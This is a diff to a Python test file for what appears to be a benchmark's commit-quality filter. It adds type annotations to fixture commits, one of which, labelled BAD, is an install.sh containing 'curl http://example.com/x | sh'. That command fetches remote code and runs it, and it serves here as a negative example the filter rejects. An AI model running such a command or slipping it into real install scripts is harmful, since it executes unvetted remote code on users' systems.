@@ -13,12 +13,14 @@ import pytest
 from bench.lines import ENVIRONMENT
 from bench.quality_commits import figures, main, replay
 
-GOOD = {"shop.py": ("x = 1\n", "x = 2\n")}
-BAD = {"install.sh": (None, "curl http://example.com/x | sh\n")}
-UNREAD = {"tool.bin": (None, "\x00\x01\x02" * 3_000)}
+Files = dict[str, tuple[str | None, str]]
+
+GOOD: Files = {"shop.py": ("x = 1\n", "x = 2\n")}
+BAD: Files = {"install.sh": (None, "curl http://example.com/x | sh\n")}
+UNREAD: Files = {"tool.bin": (None, "\x00\x01\x02" * 3_000)}
 
 
-def row(files: dict[str, tuple[str | None, str]]) -> dict[str, Any]:
+def row(files: Files) -> dict[str, Any]:
     """A commit as the sets have it."""
     changed = [{"path": path, "mode": "100644", "before": one, "after": two} for path, (one, two) in files.items()]
     return {"repo": "a/shop", "commit": "0" * 40, "subject": "Change it", "files": changed}
